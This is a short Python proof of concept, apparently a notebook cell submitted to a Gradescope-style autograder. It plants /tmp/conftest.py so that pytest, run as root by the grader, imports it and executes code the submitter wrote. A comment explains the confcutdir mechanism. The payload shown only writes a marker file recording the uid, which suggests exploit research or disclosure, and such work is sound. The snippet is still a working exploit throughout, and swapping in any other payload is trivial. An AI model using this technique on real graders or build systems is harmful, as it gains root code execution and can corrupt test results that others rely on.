import os
# Hostile first cell: plant /tmp/conftest.py while the grader (root) starts pytest. pytest runs
# with `-c /dev/null`, so its confcutdir is /dev and it imports conftest.py from every folder
# above the test files but / : with the course under /tmp (a local Gradescope root), that is
# /tmp/conftest.py, imported as root by the grader.
payload = '''
import os
with open("/tmp/nl-pwned.txt", "a") as f:
    f.write("conftest.py ran in the grader as uid %d\\n" % os.getuid())
'''
for _ in range(3):
    try:
        with open("/tmp/conftest.py", "w") as f:
            f.write(payload)
        os.chmod("/tmp/conftest.py", 0o644)
    except OSError as e:
        print("plant failed", e)
